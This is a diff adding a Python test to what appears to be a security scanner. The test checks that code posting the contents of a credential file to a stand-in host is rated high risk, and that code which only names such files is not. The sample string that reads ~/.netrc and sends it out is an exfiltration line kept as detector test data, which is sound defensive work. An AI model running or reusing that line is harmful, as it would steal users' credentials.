@@ -92,3 +92,10 @@ def test_what_may_have_a_reason_asks_for_care(rule: str, source: str) -> None:
 )
 def test_ordinary_code_of_the_same_shape_is_left_alone(source: str) -> None:
     assert set(levels(look_at("x.py", source)).values()) <= {Level.NOTE}
+
+
+def test_whoever_opens_a_file_of_accounts_and_sends_it_is_a_thief_and_who_mentions_it_is_not() -> None:
+    steals = "import requests\nrequests.post('https://x.invalid', data=open('/home/x/.netrc').read())"
+    assert levels(look_at("x.py", steals))["code-sends-secrets"] is Level.HIGH
+    mentions = "import requests\nNAMES = ('~/.netrc', '~/.pypirc')\nrequests.get('https://a.example')"
+    assert set(levels(look_at("x.py", mentions)).values()) <= {Level.NOTE}
